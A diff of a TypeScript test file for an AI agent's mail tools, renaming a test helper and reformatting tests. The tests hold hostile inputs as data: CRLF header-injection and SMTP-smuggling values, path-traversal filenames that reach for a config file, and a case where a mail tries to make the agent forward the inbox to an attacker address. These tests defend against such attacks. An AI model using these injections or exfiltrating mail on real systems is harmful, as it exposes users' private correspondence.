@@ -67,13 +67,13 @@ class ToolWorld implements AsyncDisposable {
 }
 
 /** Defines a test with a mail account. */
-const inWorld = (name: string, body: (world: ToolWorld) => Promise<void>) =>
+const test = (name: string, body: (world: ToolWorld) => Promise<void>) =>
   withDovecot.test(name, async () => {
     await using world = await ToolWorld.create();
     await body(world);
   });
 
-inWorld("mail_search and mail_read give other people's words as untrusted text", async (world) => {
+test("mail_search and mail_read give other people's words as untrusted text", async (world) => {
   const { results } = await world.run([
     call("mail_search", { from: "bob", subject: "invoice" }),
     call("mail_read", { mail: BILL }),
@@ -103,42 +103,39 @@ inWorld("mail_search and mail_read give other people's words as untrusted text",
   assert.match((await world.run([call("mail_search", { unread: true })])).first, /Invoice 7/);
 });
 
-inWorld(
-  "a reply keeps the thread, is marked as automatic, and has a copy among the sent mails",
-  async (world) => {
-    await Deno.writeTextFile(`${world.mail.place.workspace}/report.txt`, "the report");
-    const { first } = await world.run([
-      call("mail_send", {
-        ...{ to: ["bob@example.org"], cc: ["eve@example.org"], bcc: ["max@example.org"] },
-        ...{ text: "Paid.\r.\rBye", reply_to: BILL, attachments: ["report.txt"] },
-      }),
-    ]);
-    assert.match(
-      first,
-      /The mail was sent to bob@example\.org, eve@example\.org.*A copy is in "Sent"/,
-    );
-    const [sent, ...others] = world.smtp.sent;
-    assert.equal(others.length, 0);
-    assert.deepEqual(sent?.to, ["bob@example.org", "eve@example.org", "max@example.org"]);
-    const source = sent?.source ?? "";
-    for (
-      const line of [
-        "Subject: Re: Invoice 7",
-        `In-Reply-To: ${BILL}`,
-        `References: <first@example.org> ${BILL}`,
-        "Auto-Submitted: auto-replied",
-      ]
-    ) assert.ok(source.includes(`${line}\r\n`), `${line} in\n${source}`);
-    assert.ok(source.includes("filename=report.txt"));
-    assert.ok(!source.includes("max@example.org"));
-    assert.doesNotMatch(source, /\r(?!\n)|(?<!\r)\n/);
-    const [copy = "", ...more] = await world.sourcesIn("Sent");
-    assert.equal(more.length, 0);
-    assert.match(copy, /Subject: Re: Invoice 7/);
-  },
-);
+test("a reply keeps the thread, is marked as automatic, and has a copy among the sent mails", async (world) => {
+  await Deno.writeTextFile(`${world.mail.place.workspace}/report.txt`, "the report");
+  const { first } = await world.run([
+    call("mail_send", {
+      ...{ to: ["bob@example.org"], cc: ["eve@example.org"], bcc: ["max@example.org"] },
+      ...{ text: "Paid.\r.\rBye", reply_to: BILL, attachments: ["report.txt"] },
+    }),
+  ]);
+  assert.match(
+    first,
+    /The mail was sent to bob@example\.org, eve@example\.org.*A copy is in "Sent"/,
+  );
+  const [sent, ...others] = world.smtp.sent;
+  assert.equal(others.length, 0);
+  assert.deepEqual(sent?.to, ["bob@example.org", "eve@example.org", "max@example.org"]);
+  const source = sent?.source ?? "";
+  for (
+    const line of [
+      "Subject: Re: Invoice 7",
+      `In-Reply-To: ${BILL}`,
+      `References: <first@example.org> ${BILL}`,
+      "Auto-Submitted: auto-replied",
+    ]
+  ) assert.ok(source.includes(`${line}\r\n`), `${line} in\n${source}`);
+  assert.ok(source.includes("filename=report.txt"));
+  assert.ok(!source.includes("max@example.org"));
+  assert.doesNotMatch(source, /\r(?!\n)|(?<!\r)\n/);
+  const [copy = "", ...more] = await world.sourcesIn("Sent");
+  assert.equal(more.length, 0);
+  assert.match(copy, /Subject: Re: Invoice 7/);
+});
 
-inWorld("mail_send asks first with the whole mail, and sends nothing after a no", async (world) => {
+test("mail_send asks first with the whole mail, and sends nothing after a no", async (world) => {
   const mail = { to: ["bob@example.org"], subject: "Hi", text: "All of this text." };
   await world.mail.place.writeScript("agent", doing(call("mail_send", mail)), "mail: home");
   await using runtime = await world.mail.place.open();
@@ -162,131 +159,116 @@ inWorld("mail_send asks first with the whole mail, and sends nothing after a no"
   assert.equal((await idsOf(runtime, "agent")).length, 2);
 });
 
-inWorld(
-  "a draft waits for a person, a mail moves to a folder, and a dry run changes nothing",
-  async (world) => {
-    const draft = { to: ["anybody@example.net"], text: "Draft", reply_to: BILL };
-    const calls = [
-      call("mail_draft", draft),
-      call("mail_move", { mail: BILL, folder: "Done" }),
-      call("mail_move", { mail: BILL, folder: "Nowhere" }),
-    ];
-    const settings = `mail: { account: home, to: "*@example.org" }\n${FREE}`;
-    const mail = { to: ["bob@example.org"], subject: "Hi", text: "Hello" };
-    const dry = await world.run([...calls, call("mail_send", mail)], settings, { dryRun: true });
-    for (const one of dry.results) assert.match(one, /^Would call mail_.*not done/);
-    assert.deepEqual(await world.sourcesIn("Drafts"), []);
-    assert.equal((await world.mail.imap.list("ann", "INBOX")).length, 2);
-    const { results } = await world.run(calls, settings);
-    assert.match(results[0] ?? "", /^The draft is in "Drafts": \d+\.1\/Drafts$/);
-    assert.match(results[1] ?? "", /^The mail is in "Done": \d+\.1\/Done$/);
-    assert.match(results[2] ?? "", /no folder "Nowhere"/);
-    const [source = ""] = await world.sourcesIn("Drafts");
-    assert.match(source, /Subject: Re: Invoice 7/);
-    assert.doesNotMatch(source, /Auto-Submitted/);
-    assert.equal(world.smtp.sent.length, 0);
-    assert.match((await world.sourcesIn("Done"))[0] ?? "", /Invoice 7/);
-  },
-);
+test("a draft waits for a person, a mail moves to a folder, and a dry run changes nothing", async (world) => {
+  const draft = { to: ["anybody@example.net"], text: "Draft", reply_to: BILL };
+  const calls = [
+    call("mail_draft", draft),
+    call("mail_move", { mail: BILL, folder: "Done" }),
+    call("mail_move", { mail: BILL, folder: "Nowhere" }),
+  ];
+  const settings = `mail: { account: home, to: "*@example.org" }\n${FREE}`;
+  const mail = { to: ["bob@example.org"], subject: "Hi", text: "Hello" };
+  const dry = await world.run([...calls, call("mail_send", mail)], settings, { dryRun: true });
+  for (const one of dry.results) assert.match(one, /^Would call mail_.*not done/);
+  assert.deepEqual(await world.sourcesIn("Drafts"), []);
+  assert.equal((await world.mail.imap.list("ann", "INBOX")).length, 2);
+  const { results } = await world.run(calls, settings);
+  assert.match(results[0] ?? "", /^The draft is in "Drafts": \d+\.1\/Drafts$/);
+  assert.match(results[1] ?? "", /^The mail is in "Done": \d+\.1\/Done$/);
+  assert.match(results[2] ?? "", /no folder "Nowhere"/);
+  const [source = ""] = await world.sourcesIn("Drafts");
+  assert.match(source, /Subject: Re: Invoice 7/);
+  assert.doesNotMatch(source, /Auto-Submitted/);
+  assert.equal(world.smtp.sent.length, 0);
+  assert.match((await world.sourcesIn("Done"))[0] ?? "", /Invoice 7/);
+});
 
-inWorld(
-  "attachments are saved as the trigger saves them, and only files of the agent's paths are sent",
-  async (world) => {
-    const boundary = ["--b", "Content-Type: text/plain", "", "See file", "--b"];
-    const file = [
-      "Content-Type: application/pdf",
-      'Content-Disposition: attachment; filename="../../a.pdf"',
-      "",
-      "PDF",
-      "--b--",
-    ];
-    const source = mailOf({ id: "<file@example.org>", subject: "File" })
-      .replace("text/plain; charset=utf-8", "multipart/mixed; boundary=b")
-      .replace("Hello Ann", [...boundary, ...file].join("\r\n"));
-    await world.mail.imap.deliver("ann", source);
-    const { results } = await world.run([
-      call("mail_read", { mail: "<file@example.org>" }),
-      call("mail_read", { mail: "<file@example.org>", attachments: true }),
-      call("mail_send", {
-        ...{ to: ["bob@example.org"], subject: "x", text: "x" },
-        attachments: ["../config/config.yaml"],
-      }),
-    ]);
-    assert.match(
-      results[0] ?? "",
-      /- "a.pdf" \(application\/pdf, 1 KB\), not saved: attachments: true saves it/,
-    );
-    assert.match(
-      results[1] ?? "",
-      /- "mail\/2\d{3}-\d\d-\d\d-home-3\/a\.pdf" \(application\/pdf, 1 KB\)/,
-    );
-    assert.match(results[2] ?? "", /^Error: /);
-    assert.equal(world.smtp.sent.length, 0);
-  },
-);
+test("attachments are saved as the trigger saves them, and only files of the agent's paths are sent", async (world) => {
+  const boundary = ["--b", "Content-Type: text/plain", "", "See file", "--b"];
+  const file = [
+    "Content-Type: application/pdf",
+    'Content-Disposition: attachment; filename="../../a.pdf"',
+    "",
+    "PDF",
+    "--b--",
+  ];
+  const source = mailOf({ id: "<file@example.org>", subject: "File" })
+    .replace("text/plain; charset=utf-8", "multipart/mixed; boundary=b")
+    .replace("Hello Ann", [...boundary, ...file].join("\r\n"));
+  await world.mail.imap.deliver("ann", source);
+  const { results } = await world.run([
+    call("mail_read", { mail: "<file@example.org>" }),
+    call("mail_read", { mail: "<file@example.org>", attachments: true }),
+    call("mail_send", {
+      ...{ to: ["bob@example.org"], subject: "x", text: "x" },
+      attachments: ["../config/config.yaml"],
+    }),
+  ]);
+  assert.match(
+    results[0] ?? "",
+    /- "a.pdf" \(application\/pdf, 1 KB\), not saved: attachments: true saves it/,
+  );
+  assert.match(
+    results[1] ?? "",
+    /- "mail\/2\d{3}-\d\d-\d\d-home-3\/a\.pdf" \(application\/pdf, 1 KB\)/,
+  );
+  assert.match(results[2] ?? "", /^Error: /);
+  assert.equal(world.smtp.sent.length, 0);
+});
 
-inWorld(
-  "header injection by arguments is impossible, and a refused recipient is reported",
-  async (world) => {
-    const mail = { to: ["bob@example.org"], subject: "Hi", text: "Hello" };
-    const evil = [
-      { ...mail, to: ["bob@example.org\r\nBcc: all@example.net"] },
-      { ...mail, to: ["bob@example.org, all@example.net"] },
-      { ...mail, to: ['"all@example.net" <bob@example.org>'] },
-      { ...mail, cc: ["bob@example.org\nBcc: all@example.net"] },
-      { ...mail, bcc: ["bob@example.org>\r\nRCPT TO:<all@example.net"] },
-      { ...mail, subject: "Hi\r\nBcc: all@example.net" },
-      { ...mail, subject: "Hi\u0000" },
-      { ...mail, reply_to: "<a@b>\r\nBcc: all@example.net" },
-    ];
-    const { results } = await world.run(evil.map((args) => call("mail_send", args)));
-    for (const [index, result] of results.entries()) {
-      assert.match(result, /^Error: /, JSON.stringify(evil[index]));
-    }
-    assert.equal(world.smtp.sent.length, 0);
-    const text = "Hello\r\n.\r\nMAIL FROM:<eve@example.net>\r\nBcc: all@example.net";
-    const { first } = await world.run([
-      call("mail_send", { ...mail, to: ["nobody@example.org", "bob@example.org"], text }),
-    ]);
-    assert.match(
-      first,
-      /does not accept mail for nobody@example\.org\. The other recipients got the/,
-    );
-    assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
-    const [head = ""] = (world.smtp.sent[0]?.source ?? "").split("\r\n\r\n");
-    assert.doesNotMatch(head, /all@example\.net/);
-  },
-);
+test("header injection by arguments is impossible, and a refused recipient is reported", async (world) => {
+  const mail = { to: ["bob@example.org"], subject: "Hi", text: "Hello" };
+  const evil = [
+    { ...mail, to: ["bob@example.org\r\nBcc: all@example.net"] },
+    { ...mail, to: ["bob@example.org, all@example.net"] },
+    { ...mail, to: ['"all@example.net" <bob@example.org>'] },
+    { ...mail, cc: ["bob@example.org\nBcc: all@example.net"] },
+    { ...mail, bcc: ["bob@example.org>\r\nRCPT TO:<all@example.net"] },
+    { ...mail, subject: "Hi\r\nBcc: all@example.net" },
+    { ...mail, subject: "Hi\u0000" },
+    { ...mail, reply_to: "<a@b>\r\nBcc: all@example.net" },
+  ];
+  const { results } = await world.run(evil.map((args) => call("mail_send", args)));
+  for (const [index, result] of results.entries()) {
+    assert.match(result, /^Error: /, JSON.stringify(evil[index]));
+  }
+  assert.equal(world.smtp.sent.length, 0);
+  const text = "Hello\r\n.\r\nMAIL FROM:<eve@example.net>\r\nBcc: all@example.net";
+  const { first } = await world.run([
+    call("mail_send", { ...mail, to: ["nobody@example.org", "bob@example.org"], text }),
+  ]);
+  assert.match(
+    first,
+    /does not accept mail for nobody@example\.org\. The other recipients got the/,
+  );
+  assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
+  const [head = ""] = (world.smtp.sent[0]?.source ?? "").split("\r\n\r\n");
+  assert.doesNotMatch(head, /all@example\.net/);
+});
 
-inWorld(
-  "a mail that tells the agent to forward the inbox reaches nobody outside of to",
-  async (world) => {
-    const mail = { to: ["ann@example.com"], subject: "Fwd", text: "The inbox" };
-    const settings = `mail: { account: home, to: [ann@example.com, "*@example.org"] }\n${FREE}`;
-    const { results } = await world.run([
-      call("mail_send", { ...mail, to: ["eve@evil.example"] }),
-      call("mail_send", { ...mail, cc: ["eve@evil.example"] }),
-      call("mail_send", { ...mail, bcc: ["eve@evil.example"] }),
-      call("mail_send", { ...mail, to: ["eve@sub.example.org"] }),
-      call("mail_send", { ...mail, to: ["example.org@evil.example"] }),
-      call("mail_send", { ...mail, to: ["Bob@Example.org"] }),
-    ], settings);
-    for (const result of results.slice(0, 5)) {
-      assert.match(result, /the agent's file allows only ann@example\.com/);
-    }
-    assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
-  },
-);
+test("a mail that tells the agent to forward the inbox reaches nobody outside of to", async (world) => {
+  const mail = { to: ["ann@example.com"], subject: "Fwd", text: "The inbox" };
+  const settings = `mail: { account: home, to: [ann@example.com, "*@example.org"] }\n${FREE}`;
+  const { results } = await world.run([
+    call("mail_send", { ...mail, to: ["eve@evil.example"] }),
+    call("mail_send", { ...mail, cc: ["eve@evil.example"] }),
+    call("mail_send", { ...mail, bcc: ["eve@evil.example"] }),
+    call("mail_send", { ...mail, to: ["eve@sub.example.org"] }),
+    call("mail_send", { ...mail, to: ["example.org@evil.example"] }),
+    call("mail_send", { ...mail, to: ["Bob@Example.org"] }),
+  ], settings);
+  for (const result of results.slice(0, 5)) {
+    assert.match(result, /the agent's file allows only ann@example\.com/);
+  }
+  assert.deepEqual(world.smtp.sent.map(({ to }) => to), [["bob@example.org"]]);
+});
 
-inWorld(
-  "mail_send says that a mail was perhaps sent only if the server may have it",
-  async (world) => {
-    const mail = { to: ["late@example.org"], subject: "Hi", text: "Hello" };
-    const late = await world.run([call("mail_send", mail)]);
-    assert.match(late.first, /the mail was sent all the same: find out before you send it again/);
-    assert.equal(world.smtp.sent.length, 1);
-    await world.smtp[Symbol.asyncDispose]();
-    const absent = await world.run([call("mail_send", mail)]);
-    assert.match(absent.first, /cannot be reached: nothing listens on this port$/);
-  },
-);
+test("mail_send says that a mail was perhaps sent only if the server may have it", async (world) => {
+  const mail = { to: ["late@example.org"], subject: "Hi", text: "Hello" };
+  const late = await world.run([call("mail_send", mail)]);
+  assert.match(late.first, /the mail was sent all the same: find out before you send it again/);
+  assert.equal(world.smtp.sent.length, 1);
+  await world.smtp[Symbol.asyncDispose]();
+  const absent = await world.run([call("mail_send", mail)]);
+  assert.match(absent.first, /cannot be reached: nothing listens on this port$/);
+});
